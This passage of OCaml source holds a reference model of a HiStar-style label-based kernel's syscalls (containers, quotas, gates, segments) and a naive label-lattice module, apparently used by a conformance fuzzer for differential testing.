  v_immut : bool;
  v_meta : string;
  v_refs : int;
  v_seg : string option;
  v_children : (oid * kind * string) list option;
  v_parent : oid option;
  v_clear : Mlabel.t option;
  v_maps : mapping list option;
}

let infinite_quota = Int64.max_int
let base_overhead = 512L

let kind_to_bit = function
  | Segment -> 0
  | Thread -> 1
  | Address_space -> 2
  | Gate -> 3
  | Container -> 4
  | Device -> 5

let kind_to_string = function
  | Segment -> "segment"
  | Thread -> "thread"
  | Address_space -> "address_space"
  | Gate -> "gate"
  | Container -> "container"
  | Device -> "device"

let err_to_string = function
  | E_label -> "label"
  | E_not_found -> "not_found"
  | E_invalid -> "invalid"
  | E_quota -> "quota"
  | E_immutable -> "immutable"
  | E_avoid -> "avoid_type"

(* ---------- state helpers ---------- *)

let ( let* ) = Result.bind
let err e msg = Error (e, msg)
let find st oid = M.find_opt oid st.objs
let put st oid o = { st with objs = M.add oid o st.objs }
let remove st oid = { st with objs = M.remove oid st.objs }

let thread st tid =
  match find st tid with
  | Some ({ body = Thr { tclear }; _ } as o) -> (o, tclear)
  | Some _ | None -> invalid_arg "Model: not a live thread"

let cur_label st tid = (fst (thread st tid)).label
let cur_clear st tid = snd (thread st tid)

let set_thread st tid ~label ~clear =
  match find st tid with
  | Some ({ body = Thr _; _ } as o) ->
      put st tid { o with label; body = Thr { tclear = clear } }
  | Some _ | None -> assert false

(* ---------- label checks ---------- *)

let check_observe st tid o op =
  if Mlabel.can_observe ~thread:(cur_label st tid) ~obj:o.label then Ok ()
  else err E_label (op ^ ": cannot observe")

let check_modify st tid o op =
  if o.immut then err E_immutable (op ^ ": object is immutable")
  else if Mlabel.can_modify ~thread:(cur_label st tid) ~obj:o.label then Ok ()
  else err E_label (op ^ ": cannot modify")

let as_container ~op o =
  match o.body with
  | Con c -> Ok c
  | Seg _ | Thr _ | Gat _ | Asp _ | Dev -> err E_invalid (op ^ ": not a container")

let resolve st tid ~op (ce : centry) =
  match find st ce.container with
  | None -> err E_not_found (op ^ ": no container")
  | Some d -> (
      match d.body with
      | Con c ->
          let* () = check_observe st tid d op in
          if Int64.equal ce.object_id ce.container then Ok (ce.container, d)
          else if M.mem ce.object_id c.children then (
            match find st ce.object_id with
            | Some o -> Ok (ce.object_id, o)
            | None -> err E_not_found (op ^ ": dangling link"))
          else err E_not_found (op ^ ": not in container")
      | Seg _ | Thr _ | Gat _ | Asp _ | Dev ->
          err E_invalid (op ^ ": not a container"))

let resolve_segment st tid ~op ce =
  let* oid, o = resolve st tid ~op ce in
  match o.body with
  | Seg _ -> Ok (oid, o)
  | Con _ | Thr _ | Gat _ | Asp _ | Dev -> err E_invalid (op ^ ": not a segment")

(* ---------- quotas ---------- *)

let usage_of_body = function
  | Seg s -> Int64.add base_overhead (Int64.of_int (String.length s))
  | Con _ | Thr _ | Gat _ | Asp _ | Dev -> base_overhead

let quota_avail o =
  if Int64.equal o.quota infinite_quota then Int64.max_int
  else Int64.sub o.quota o.usage

let sat_add a b =
  let s = Int64.add a b in
  if Int64.compare b 0L > 0 && Int64.compare s a < 0 then Int64.max_int else s

let charge st ~op doid amount =
  match find st doid with
  | None -> assert false
  | Some d ->
      if Int64.equal d.quota infinite_quota then
        Ok (put st doid { d with usage = sat_add d.usage amount })
      else if Int64.compare amount (Int64.sub d.quota d.usage) > 0 then
        err E_quota (op ^ ": container over quota")
      else Ok (put st doid { d with usage = Int64.add d.usage amount })

(* ---------- allocation / deallocation ---------- *)

let rec destroy st oid =
  match find st oid with
  | None -> st
  | Some o -> (
      let st = remove st oid in
      match o.body with
      | Con c -> M.fold (fun child _ st -> decref st child) c.children st
      | Seg _ | Thr _ | Gat _ | Asp _ | Dev -> st)

and decref st child =
  match find st child with
  | None -> st
  | Some o ->
      let refs = o.refs - 1 in
      if refs <= 0 then destroy st child else put st child { o with refs }

let unlink st doid child_oid =
  match find st doid with
  | Some ({ body = Con c; _ } as d) when M.mem child_oid c.children ->
      let d = { d with body = Con { c with children = M.remove child_oid c.children } } in
      let d =
        match find st child_oid with
        | Some ch -> { d with usage = Int64.sub d.usage ch.quota }
        | None -> d
      in
      decref (put st doid d) child_oid
  | Some _ | None -> st

let create_object st tid ~(spec : spec) ~kind ~clearance_check ~body =
  let lt = cur_label st tid in
  let ct = cur_clear st tid in
  let* () =
    if not (Mlabel.is_storable spec.sc_label) then
      err E_invalid "create: label contains J"
    else
      match kind with
      | Thread | Gate -> Ok ()
      | Segment | Address_space | Container | Device ->
          if Mlabel.is_object_label spec.sc_label then Ok ()
          else err E_invalid "create: only threads and gates may own (*)"
  in
  let* d =
    match find st spec.sc_container with
    | Some o -> Ok o
    | None -> err E_not_found "create: no container"
  in
  let* c = as_container ~op:"create" d in
  let* () = check_modify st tid d "create(container)" in
  let* () =
    if c.avoid land (1 lsl kind_to_bit kind) <> 0 then
      err E_avoid (kind_to_string kind ^ " forbidden in this container")
    else Ok ()
  in
  let* () =
    if not (Mlabel.leq lt spec.sc_label) then err E_label "create: L_T not <= L"
    else if (not clearance_check) && not (Mlabel.leq spec.sc_label ct) then
      err E_label "create: L not <= C_T"
    else Ok ()
  in
  let initial_usage = usage_of_body body in
  let* () =
    if Int64.compare spec.sc_quota initial_usage < 0 then
      err E_quota "create: quota below initial usage"
    else Ok ()
  in
  let* st = charge st ~op:"create" spec.sc_container spec.sc_quota in
  let id = st.next_oid in
  let o =
    {
      kind;
      label = spec.sc_label;
      descrip = spec.sc_descrip;
      quota = spec.sc_quota;
      usage = initial_usage;
      fixed = false;
      immut = false;
      meta = "";
      refs = 1;
      body;
    }
  in
  let st = put { st with next_oid = Int64.add id 1L } id o in
  let st =
    match find st spec.sc_container with
    | Some ({ body = Con c; _ } as d) ->
        put st spec.sc_container
          { d with body = Con { c with children = M.add id kind c.children } }
    | Some _ | None -> assert false
  in
  Ok (st, id)

(* ---------- gates (§3.5, §5.5) ---------- *)

let check_gate_invoke ~lt ~ct ~lg ~gclear ~rl ~rc ~lv =
  if not (Mlabel.leq lt gclear) then err E_label "gate: L_T not <= C_G"
  else if not (Mlabel.leq lt lv) then err E_label "gate: L_T not <= L_V"
  else
    let floor = Mlabel.lower_star (Mlabel.lub (Mlabel.raise_j lt) (Mlabel.raise_j lg)) in
    if not (Mlabel.leq floor rl) then err E_label "gate: floor not <= L_R"
    else if not (Mlabel.leq rl rc) then err E_label "gate: L_R not <= C_R"
    else if not (Mlabel.leq rc (Mlabel.lub ct gclear)) then
      err E_label "gate: C_R not <= C_T | C_G"
    else Ok ()

(* obj_get_label semantics, shared with the floor computation: thread
   labels are mutable state and demand L_T'^J <= L_T^J to read. *)
let obj_label_sem st tid ce =
  let* _, o = resolve st tid ~op:"obj_get_label" ce in
  match o.body with
  | Thr _ ->
      if Mlabel.leq (Mlabel.raise_j o.label) (Mlabel.raise_j (cur_label st tid))
      then Ok o.label
      else err E_label "obj_get_label: thread label not readable"
  | Seg _ | Con _ | Gat _ | Asp _ | Dev -> Ok o.label

(* The modeled service entry: immediately [gate_return], keeping all
   owned categories when the gate was created with [gc_keep] and none
   otherwise. Runs at the requested label/clearance; any failure on the
   return path leaves the thread stuck inside the service. *)
let model_gate_return st tid ~(rg : centry) ~keep =
  let stuck (e, m) = (st, R_err (e, m), S_stuck (e, m)) in
  match obj_label_sem st tid rg with
  | Error em -> stuck em
  | Ok rgl -> (
      let self = cur_label st tid in
      let dropped =
        if keep then self
        else
          List.fold_left
            (fun acc c ->
              if Mlabel.owns rgl c then acc else Mlabel.set acc c Mlabel.l1)
            self (Mlabel.owned self)
      in
      let lr =
        Mlabel.lower_star
          (Mlabel.lub (Mlabel.raise_j dropped) (Mlabel.raise_j rgl))
      in
      let cc = cur_clear st tid in
      match resolve st tid ~op:"gate_enter" rg with
      | Error em -> stuck em
      | Ok (rg_oid, rgo) -> (
          match rgo.body with
          | Gat rgg -> (
              match
                check_gate_invoke ~lt:(cur_label st tid) ~ct:cc ~lg:rgo.label
                  ~gclear:rgg.gclear ~rl:lr ~rc:cc ~lv:(Mlabel.make Mlabel.l3)
              with
              | Error em -> stuck em
              | Ok () ->
                  let st = set_thread st tid ~label:lr ~clear:cc in
                  (* a return gate is one-shot: reap it *)
                  let st = unlink st rg.container rg_oid in
                  (st, R_unit, S_continue))
          | Seg _ | Con _ | Thr _ | Asp _ | Dev ->
              stuck (E_invalid, "gate_enter: not a gate")))

let gate_call st tid ~g_gate ~g_label ~g_clear ~g_verify ~g_retcon =
  let res =
    (* Sys.gate_call with label = the gate floor when [g_label] is
       [None] (a separate obj_get_label syscall, performed first), and
       return gate label/clearance = the caller's current ones. *)
    let* rl =
      match g_label with
      | Some l -> Ok l
      | None ->
          let* lg = obj_label_sem st tid g_gate in
          Ok
            (Mlabel.lower_star
               (Mlabel.lub
                  (Mlabel.raise_j (cur_label st tid))
                  (Mlabel.raise_j lg)))
    in
    let rc = match g_clear with Some c -> c | None -> cur_clear st tid in
    let* gid, gobj = resolve st tid ~op:"gate_call" g_gate in
    let* gclear, gkeep, gonce =
      match gobj.body with
      | Gat { gclear; gkeep; gonce } -> Ok (gclear, gkeep, gonce)
      | Seg _ | Con _ | Thr _ | Asp _ | Dev ->
          err E_invalid "gate_call: not a gate"
    in
    let lt = cur_label st tid in
    let ct = cur_clear st tid in
    let* () =
      check_gate_invoke ~lt ~ct ~lg:gobj.label ~gclear ~rl ~rc ~lv:g_verify
    in
    let* () =
      if not (Mlabel.leq lt ct) then
        err E_label "gate_call: return gate label not <= C_T"
      else if not (Mlabel.leq ct (Mlabel.lub ct (Mlabel.raise_j lt))) then
        err E_label "gate_call: return clearance not <= C_T | L_T^J"
      else Ok ()
    in
    let* st, rg_oid =
      create_object st tid
        ~spec:
          {
            sc_container = g_retcon;
            sc_label = lt;
            sc_quota = 4096L;
            sc_descrip = "return gate";
          }
        ~kind:Gate ~clearance_check:true
        ~body:(Gat { gclear = ct; gkeep = false; gonce = false })
    in
    let st = set_thread st tid ~label:rl ~clear:rc in
    (* a one-shot service gate reaps itself at entry, like the return
       gate it hands back — mirror the kernel's [reap_one_shot] *)
    let st = if gonce then unlink st g_gate.container gid else st in
    Ok (st, rg_oid, gkeep)
  in
  match res with
  | Error (e, m) -> (st, R_err (e, m), S_continue)
  | Ok (st, rg_oid, keep) ->
      model_gate_return st tid
        ~rg:{ container = g_retcon; object_id = rg_oid }
        ~keep

(* ---------- segments ---------- *)

let seg_data o = match o.body with Seg s -> s | _ -> assert false

(* ---------- dispatch ---------- *)

let exec st tid req : (state * resp, err * string) result =
  match req with
  | Cat_create ->
      let c = st.next_cat in
      let lt = Mlabel.set (cur_label st tid) c Mlabel.star in
      let ct = Mlabel.set (cur_clear st tid) c Mlabel.l3 in
      let st = set_thread st tid ~label:lt ~clear:ct in
      Ok ({ st with next_cat = Int64.add c 1L }, R_cat c)
  | Self_get_label -> Ok (st, R_label (cur_label st tid))
  | Self_get_clearance -> Ok (st, R_label (cur_clear st tid))
  | Self_set_label l ->
      if Mlabel.leq (cur_label st tid) l && Mlabel.leq l (cur_clear st tid)
      then Ok (set_thread st tid ~label:l ~clear:(cur_clear st tid), R_unit)
      else err E_label "self_set_label: need L_T <= L <= C_T"
  | Self_set_clearance c ->
      let lt = cur_label st tid in
      let bound = Mlabel.lub (cur_clear st tid) (Mlabel.raise_j lt) in
      if Mlabel.leq lt c && Mlabel.leq c bound then
        Ok (set_thread st tid ~label:lt ~clear:c, R_unit)
      else err E_label "self_set_clearance: need L_T <= C <= C_T | L_T^J"
  | Obj_get_label ce ->
      let* l = obj_label_sem st tid ce in
      Ok (st, R_label l)
  | Obj_get_kind ce ->
      let* _, o = resolve st tid ~op:"obj_get_kind" ce in
      Ok (st, R_kind o.kind)
  | Obj_get_descrip ce ->
      let* _, o = resolve st tid ~op:"obj_get_descrip" ce in
      Ok (st, R_bytes o.descrip)
  | Obj_get_quota ce ->
      let* _, o = resolve st tid ~op:"obj_get_quota" ce in
      let* () = check_observe st tid o "obj_get_quota" in
      Ok (st, R_quota (o.quota, o.usage))
  | Obj_set_fixed_quota ce ->
      let* oid, o = resolve st tid ~op:"obj_set_fixed_quota" ce in
      let* () = check_modify st tid o "obj_set_fixed_quota" in
      Ok (put st oid { o with fixed = true }, R_unit)
  | Obj_set_immutable ce ->
      let* oid, o = resolve st tid ~op:"obj_set_immutable" ce in
      let* () = check_modify st tid o "obj_set_immutable" in
      Ok (put st oid { o with immut = true }, R_unit)
  | Obj_get_metadata ce ->
      let* _, o = resolve st tid ~op:"obj_get_metadata" ce in
      let* () = check_observe st tid o "obj_get_metadata" in
      Ok (st, R_bytes o.meta)
  | Obj_set_metadata (ce, md) ->
      let* oid, o = resolve st tid ~op:"obj_set_metadata" ce in
      let* () = check_modify st tid o "obj_set_metadata" in
      if String.length md > 64 then err E_invalid "obj_set_metadata: > 64 bytes"
      else Ok (put st oid { o with meta = md }, R_unit)
  | Unref ce ->
      let* d =
        match find st ce.container with
        | Some o -> Ok o
        | None -> err E_not_found "unref: no container"
      in
      let* c = as_container ~op:"unref" d in
      let* () = check_modify st tid d "unref(container)" in
      if Int64.equal ce.object_id ce.container then
        err E_invalid "unref: container cannot unlink itself"
      else if M.mem ce.object_id c.children then
        Ok (unlink st ce.container ce.object_id, R_unit)
      else err E_not_found "unref: not in container"
  | Quota_move { qm_container; qm_target; qm_nbytes } ->
      let* d =
        match find st qm_container with
        | Some o -> Ok o
        | None -> err E_not_found "quota_move: no container"
      in
      let* c = as_container ~op:"quota_move" d in
      let* () = check_modify st tid d "quota_move(container)" in
      let* o =
        if M.mem qm_target c.children then
          match find st qm_target with
          | Some o -> Ok o
          | None -> err E_not_found "quota_move: dangling"
        else err E_not_found "quota_move: not in container"
      in
      let lt = cur_label st tid in
      let ct = cur_clear st tid in
      let* () =
        if Mlabel.leq lt o.label && Mlabel.leq o.label ct then Ok ()
        else err E_label "quota_move: need L_T <= L_O <= C_T"
      in
      let* () =
        if Int64.compare qm_nbytes 0L < 0 then
          if not (Mlabel.can_observe ~thread:lt ~obj:o.label) then
            err E_label "quota_move: shrinking requires L_O <= L_T^J"
          else if Int64.compare (quota_avail o) (Int64.neg qm_nbytes) < 0 then
            err E_quota "quota_move: fewer spare bytes"
          else Ok ()
        else Ok ()
      in
      let* () =
        if o.fixed then err E_immutable "quota_move: fixed-quota object"
        else Ok ()
      in
      let* () =
        if
          Int64.compare qm_nbytes 0L > 0
          && Int64.compare qm_nbytes (Int64.sub Int64.max_int o.quota) > 0
        then err E_quota "quota_move: target quota would overflow"
        else Ok ()
      in
      let* st = charge st ~op:"quota_move" qm_container qm_nbytes in
      let o = match find st qm_target with Some o -> o | None -> assert false in
      Ok (put st qm_target { o with quota = Int64.add o.quota qm_nbytes }, R_unit)
  | Container_create (spec, avoid) ->
      let* parent_avoid =
        match find st spec.sc_container with
        | Some { body = Con c; _ } -> Ok c.avoid
        | Some _ -> err E_invalid "container_create: parent not a container"
        | None -> err E_not_found "container_create: no container"
      in
      let avoid_bits =
        List.fold_left (fun acc k -> acc lor (1 lsl kind_to_bit k)) 0 avoid
      in
      let body =
        Con
          {
            children = M.empty;
            avoid = avoid_bits lor parent_avoid;
            parent = spec.sc_container;
          }
      in
      let* st, id = create_object st tid ~spec ~kind:Container ~clearance_check:false ~body in
      Ok (st, R_oid id)
  | Container_list ce ->
      let* _, o = resolve st tid ~op:"container_list" ce in
      let* c = as_container ~op:"container_list" o in
      let entries =
        M.fold
          (fun oid kind acc ->
            let descrip =
              match find st oid with Some ob -> ob.descrip | None -> "?"
            in
            (oid, kind, descrip) :: acc)
          c.children []
        |> List.sort (fun (a, _, _) (b, _, _) -> Int64.compare a b)
      in
      Ok (st, R_entries entries)
  | Container_get_parent ce ->
      let* _, o = resolve st tid ~op:"container_get_parent" ce in
      let* c = as_container ~op:"container_get_parent" o in
      Ok (st, R_oid c.parent)
  | Container_link { cl_container; cl_target } ->
      let* o_oid, o = resolve st tid ~op:"container_link" cl_target in
      let* d =
        match find st cl_container with
        | Some d -> Ok d
        | None -> err E_not_found "container_link: no container"
      in
      let* c = as_container ~op:"container_link" d in
      let* () = check_modify st tid d "container_link(container)" in
      let* () =
        if Mlabel.leq o.label (cur_clear st tid) then Ok ()
        else err E_label "container_link: L_S not <= C_T"
      in
      let* () =
        match o.body with
        | Con _ -> err E_invalid "container_link: containers have a single parent"
        | Seg _ | Thr _ | Gat _ | Asp _ | Dev -> Ok ()
      in
      let* () =
        if o.fixed then Ok ()
        else err E_invalid "container_link: object quota not fixed"
      in
      if M.mem o_oid c.children then err E_invalid "container_link: already linked"
      else
        let* st = charge st ~op:"container_link" cl_container o.quota in
        let st =
          match find st cl_container with
          | Some ({ body = Con c; _ } as d) ->
              put st cl_container
                { d with body = Con { c with children = M.add o_oid o.kind c.children } }
          | Some _ | None -> assert false
        in
        let o = match find st o_oid with Some o -> o | None -> assert false in
        Ok (put st o_oid { o with refs = o.refs + 1 }, R_unit)
  | Segment_create (spec, len) ->
      if len < 0 then err E_invalid "segment_create: negative length"
      else
        let body = Seg (String.make len '\000') in
        let* st, id = create_object st tid ~spec ~kind:Segment ~clearance_check:false ~body in
        Ok (st, R_oid id)
  | Segment_read (ce, off, len) ->
      let* _, o = resolve_segment st tid ~op:"segment_read" ce in
      let* () = check_observe st tid o "segment_read" in
      let s = seg_data o in
      let n = String.length s in
      let len = if len < 0 then n - off else len in
      if off < 0 || len < 0 || off + len > n then
        err E_invalid "segment_read: range outside length"
      else Ok (st, R_bytes (String.sub s off len))
  | Segment_write (ce, off, data) ->
      let* oid, o = resolve_segment st tid ~op:"segment_write" ce in
      let* () = check_modify st tid o "segment_write" in
      let s = seg_data o in
      let n = String.length s in
      if off < 0 || off + String.length data > n then
        err E_invalid "segment_write: range outside length"
      else
        let b = Bytes.of_string s in
        Bytes.blit_string data 0 b off (String.length data);
        Ok (put st oid { o with body = Seg (Bytes.to_string b) }, R_unit)
  | Segment_resize (ce, len) ->
      let* oid, o = resolve_segment st tid ~op:"segment_resize" ce in
      let* () = check_modify st tid o "segment_resize" in
      if len < 0 then err E_invalid "segment_resize: negative length"
      else
        let new_usage = Int64.add base_overhead (Int64.of_int len) in
        if
          (not (Int64.equal o.quota infinite_quota))
          && Int64.compare new_usage o.quota > 0
        then err E_quota "segment_resize: length exceeds quota"
        else
          let s = seg_data o in
          let fresh = Bytes.make len '\000' in
          Bytes.blit_string s 0 fresh 0 (min (String.length s) len);
          Ok
            ( put st oid
                { o with body = Seg (Bytes.to_string fresh); usage = new_usage },
              R_unit )
  | Segment_get_size ce ->
      let* _, o = resolve_segment st tid ~op:"segment_get_size" ce in
      let* () = check_observe st tid o "segment_get_size" in
      Ok (st, R_int (Int64.of_int (String.length (seg_data o))))
  | Segment_copy (src, spec) ->
      let* _, o = resolve_segment st tid ~op:"segment_copy" src in
      let* () = check_observe st tid o "segment_copy" in
      let body = Seg (seg_data o) in
      let* st, id = create_object st tid ~spec ~kind:Segment ~clearance_check:false ~body in
      Ok (st, R_oid id)
  | Segment_cas { cas_seg; cas_off; cas_exp; cas_des } ->
      let* oid, o = resolve_segment st tid ~op:"segment_cas" cas_seg in
      let* () = check_modify st tid o "segment_cas" in
      let s = seg_data o in
      if cas_off < 0 || cas_off + 8 > String.length s then
        err E_invalid "segment_cas: offset out of range"
      else
        let v = String.get_int64_le s cas_off in
        if Int64.equal v cas_exp then begin
          let b = Bytes.of_string s in
          Bytes.set_int64_le b cas_off cas_des;
          Ok (put st oid { o with body = Seg (Bytes.to_string b) }, R_bool true)
        end
        else Ok (st, R_bool false)
  | As_create spec ->
      let* st, id =
        create_object st tid ~spec ~kind:Address_space ~clearance_check:false
          ~body:(Asp [])
      in
      Ok (st, R_oid id)
  | As_get ce ->
      let* _, o = resolve st tid ~op:"as_get" ce in
      let* () = check_observe st tid o "as_get" in
      (match o.body with
      | Asp a -> Ok (st, R_mappings a)
      | Seg _ | Con _ | Thr _ | Gat _ | Dev -> err E_invalid "as_get: not an AS")
  | As_map (ce, m) ->
      let* oid, o = resolve st tid ~op:"as_map" ce in
      let* () = check_modify st tid o "as_map" in
      (match o.body with
      | Asp a ->
          let a = m :: List.filter (fun m' -> m'.va <> m.va) a in
          Ok (put st oid { o with body = Asp a }, R_unit)
      | Seg _ | Con _ | Thr _ | Gat _ | Dev -> err E_invalid "as_map: not an AS")
  | As_unmap (ce, va) ->
      let* oid, o = resolve st tid ~op:"as_unmap" ce in
      let* () = check_modify st tid o "as_unmap" in
      (match o.body with
      | Asp a ->
          let a = List.filter (fun m -> m.va <> va) a in
          Ok (put st oid { o with body = Asp a }, R_unit)
      | Seg _ | Con _ | Thr _ | Gat _ | Dev -> err E_invalid "as_unmap: not an AS")
  | Thread_create (spec, clearance) ->
      let lt = cur_label st tid in
      let ct = cur_clear st tid in
      let* () =
        if
          Mlabel.leq lt spec.sc_label
          && Mlabel.leq spec.sc_label clearance
          && Mlabel.leq clearance ct
        then Ok ()
        else err E_label "thread_create: need L_T <= L' <= C' <= C_T"
      in
      let* st, id =
        create_object st tid ~spec ~kind:Thread ~clearance_check:true
          ~body:(Thr { tclear = clearance })
      in
      Ok (st, R_oid id)
  | Thread_get_label ce ->
      let* _, o = resolve st tid ~op:"thread_get_label" ce in
      (match o.body with
      | Thr _ ->
          if
            Mlabel.leq (Mlabel.raise_j o.label)
              (Mlabel.raise_j (cur_label st tid))
          then Ok (st, R_label o.label)
          else err E_label "thread_get_label: not readable"
      | Seg _ | Con _ | Gat _ | Asp _ | Dev ->
          err E_invalid "thread_get_label: not a thread")
  | Gate_create { gc_spec; gc_clearance; gc_keep; gc_once } ->
      let lt = cur_label st tid in
      let ct = cur_clear st tid in
      let* () =
        let bound = Mlabel.lub (Mlabel.lub ct (Mlabel.raise_j lt)) gc_spec.sc_label in
        if not (Mlabel.leq gc_clearance bound) then
          err E_label "gate_create: C_G not <= C_T | L_T^J | L_G"
        else Ok ()
      in
      let* st, id =
        create_object st tid ~spec:gc_spec ~kind:Gate ~clearance_check:true
          ~body:(Gat { gclear = gc_clearance; gkeep = gc_keep; gonce = gc_once })
      in
      Ok (st, R_oid id)
  | Gate_call _ -> assert false (* handled in [step] *)
  | Futex_wake (ce, _off, _count) ->
      let* _, o = resolve_segment st tid ~op:"futex_wake" ce in
      let* () = check_modify st tid o "futex_wake" in
      (* the model has no blocked threads, so no waiter can exist *)
      Ok (st, R_int 0L)
  | Sync_object ce ->
      let* _ = resolve st tid ~op:"sync_object" ce in
      Ok (st, R_unit)

let step st ~thread:tid req =
  ignore (thread st tid);
  match req with
  | Gate_call { g_gate; g_label; g_clear; g_verify; g_retcon } ->
      gate_call st tid ~g_gate ~g_label ~g_clear ~g_verify ~g_retcon
  | _ -> (
      match exec st tid req with
      | Ok (st', resp) ->
          if M.mem tid st'.objs then (st', resp, S_continue)
          else (st', resp, S_thread_gone)
      | Error (e, m) -> (st, R_err (e, m), S_continue))

(* ---------- construction / observation ---------- *)

let spawn st ~container ~label ~clearance ~descrip =
  let id = st.next_oid in
  let o =
    {
      kind = Thread;
      label;
      descrip;
      quota = 65_536L;
      usage = base_overhead;
      fixed = false;
      immut = false;
      meta = "";
      refs = 1;
      body = Thr { tclear = clearance };
    }
  in
  let st = put { st with next_oid = Int64.add id 1L } id o in
  match find st container with
  | Some ({ body = Con c; _ } as d) ->
      let st =
        put st container
          {
            d with
            usage = Int64.add d.usage o.quota;
            body = Con { c with children = M.add id Thread c.children };
          }
      in
      (st, id)
  | Some _ | None -> invalid_arg "Model.spawn: bad container"

let init () =
  let root_id = 1L in
  let root_obj =
    {
      kind = Container;
      label = Mlabel.make Mlabel.l1;
      descrip = "root container";
      quota = infinite_quota;
      usage = base_overhead;
      fixed = true;
      immut = false;
      meta = "";
      refs = 1;
      body = Con { children = M.empty; avoid = 0; parent = root_id };
    }
  in
  let st =
    {
      objs = M.add root_id root_obj M.empty;
      next_oid = 2L;
      next_cat = 0L;
      root = root_id;
      boot = 0L;
    }
  in
  let st, boot =
    spawn st ~container:root_id ~label:(Mlabel.make Mlabel.l1)
      ~clearance:(Mlabel.make Mlabel.l2) ~descrip:"driver"
  in
  { st with boot }

let root st = st.root
let boot_thread st = st.boot
let live st = M.fold (fun oid _ acc -> oid :: acc) st.objs [] |> List.sort Int64.compare

let view st oid =
  Option.map
    (fun o ->
      {
        v_kind = o.kind;
        v_label = o.label;
        v_descrip = o.descrip;
        v_quota = o.quota;
        v_usage = o.usage;
        v_fixed = o.fixed;
        v_immut = o.immut;
        v_meta = o.meta;
        v_refs = o.refs;
        v_seg = (match o.body with Seg s -> Some s | _ -> None);
        v_children =
          (match o.body with
          | Con c ->
              Some
                (M.fold
                   (fun coid kind acc ->
                     let descrip =
                       match find st coid with Some ob -> ob.descrip | None -> "?"
                     in
                     (coid, kind, descrip) :: acc)
                   c.children []
                |> List.sort (fun (a, _, _) (b, _, _) -> Int64.compare a b))
          | _ -> None);
        v_parent = (match o.body with Con c -> Some c.parent | _ -> None);
        v_clear = (match o.body with Thr th -> Some th.tclear | _ -> None);
        v_maps = (match o.body with Asp a -> Some a | _ -> None);
      })
    (find st oid)

let thread_label_of st oid =
  match find st oid with
  | Some { body = Thr _; label; _ } -> Some label
  | Some _ | None -> None

let thread_clearance_of st oid =
  match find st oid with
  | Some { body = Thr th; _ } -> Some th.tclear
  | Some _ | None -> None
