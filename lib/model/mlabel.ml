(* Reference label algebra: default rank + sorted (category, rank)
   exception list, every operator pointwise. Ranks 0..5 stand for
   ⋆ < 0 < 1 < 2 < 3 < J. Normal form: entries sorted by category,
   none equal to the default, each category at most once — so
   structural equality is extensional equality. *)

type t = { def : int; ents : (int64 * int) list }

let star = 0
let l0 = 1
let l1 = 2
let l2 = 3
let l3 = 4
let j = 5

let valid_rank r = r >= star && r <= j

let make d =
  if d = j || not (valid_rank d) then invalid_arg "Mlabel.make";
  { def = d; ents = [] }

let default t = t.def

let get t c =
  match List.assoc_opt c t.ents with Some r -> r | None -> t.def

let set t c r =
  if not (valid_rank r) then invalid_arg "Mlabel.set";
  let ents = List.filter (fun (c', _) -> not (Int64.equal c c')) t.ents in
  let ents = if r = t.def then ents else (c, r) :: ents in
  { t with ents = List.sort (fun (a, _) (b, _) -> Int64.compare a b) ents }

let of_entries entries d =
  List.fold_left (fun acc (c, r) -> set acc c r) (make d) entries

let entries t = t.ents
let equal a b = a.def = b.def && a.ents = b.ents
let compare = Stdlib.compare

(* Apply [f] at every category where either label has an entry, plus
   the defaults; renormalize against the new default. *)
let map2 f a b =
  let def = f a.def b.def in
  let rec go xs ys acc =
    match (xs, ys) with
    | [], [] -> List.rev acc
    | (c, r) :: xs', [] -> go xs' [] ((c, f r b.def) :: acc)
    | [], (c, r) :: ys' -> go [] ys' ((c, f a.def r) :: acc)
    | (cx, rx) :: xs', (cy, ry) :: ys' ->
        let cmp = Int64.compare cx cy in
        if cmp < 0 then go xs' ys ((cx, f rx b.def) :: acc)
        else if cmp > 0 then go xs ys' ((cy, f a.def ry) :: acc)
        else go xs' ys' ((cx, f rx ry) :: acc)
  in
  let ents = List.filter (fun (_, r) -> r <> def) (go a.ents b.ents []) in
  { def; ents }

let check2 f a b =
  let rec go xs ys =
    match (xs, ys) with
    | [], [] -> true
    | (_, r) :: xs', [] -> f r b.def && go xs' []
    | [], (_, r) :: ys' -> f a.def r && go [] ys'
    | (cx, rx) :: xs', (cy, ry) :: ys' ->
        let cmp = Int64.compare cx cy in
        if cmp < 0 then f rx b.def && go xs' ys
        else if cmp > 0 then f a.def ry && go xs ys'
        else f rx ry && go xs' ys'
  in
  f a.def b.def && go a.ents b.ents

let leq = check2 (fun x y -> x <= y)
let lub = map2 max
let glb = map2 min

let map_ranks f t =
  let def = f t.def in
  let ents =
    List.filter_map
      (fun (c, r) ->
        let r = f r in
        if r = def then None else Some (c, r))
      t.ents
  in
  { def; ents }

let raise_j = map_ranks (fun r -> if r = star then j else r)
let lower_star = map_ranks (fun r -> if r = j then star else r)

let owns t c =
  let r = get t c in
  r = star || r = j

let owned t =
  List.filter_map (fun (c, r) -> if r = star || r = j then Some c else None)
    t.ents

let has_star t = t.def = star || List.exists (fun (_, r) -> r = star) t.ents
let has_j t = t.def = j || List.exists (fun (_, r) -> r = j) t.ents
let is_storable t = not (has_j t)
let is_object_label t = not (has_star t) && not (has_j t)
let can_observe ~thread ~obj = leq obj (raise_j thread)
let can_modify ~thread ~obj = leq thread obj && leq obj (raise_j thread)
let can_flow ~src ~dst = leq src dst
let taint_to_read ~thread ~obj = lower_star (lub (raise_j thread) obj)

let rank_to_string r =
  if r = star then "*" else if r = j then "J" else string_of_int (r - 1)

let to_string t =
  let b = Buffer.create 32 in
  Buffer.add_char b '{';
  List.iter
    (fun (c, r) ->
      Buffer.add_string b (Printf.sprintf "c%Ld %s, " c (rank_to_string r)))
    t.ents;
  Buffer.add_string b (rank_to_string t.def);
  Buffer.add_char b '}';
  Buffer.contents b
