(** Reference label algebra (§2), independent of [lib/label].

    This is a deliberately naive transcription of the paper's six-level
    label lattice over sorted association lists: levels are plain
    integer ranks ordered ⋆ < 0 < 1 < 2 < 3 < J as [0..5], a label is a
    default rank plus finitely many per-category exceptions, and every
    operator is pointwise. It shares no code with [Histar_label.Label]
    (which is Map-based and cached in the kernel), so the conformance
    fuzzer's differential comparison covers the production label
    implementation as well as the kernel's use of it. *)

type t

val star : int
val l0 : int
val l1 : int
val l2 : int
val l3 : int
val j : int
(** The six ranks, [0..5] in lattice order. *)

val make : int -> t
(** [make d] maps every category to rank [d]. Raises [Invalid_argument]
    if [d] is [j] or out of range (mirrors {!Histar_label.Label.make}). *)

val of_entries : (int64 * int) list -> int -> t
(** [of_entries entries default]; later entries for the same category
    override earlier ones (mirrors [Label.of_list]). *)

val default : t -> int
val get : t -> int64 -> int
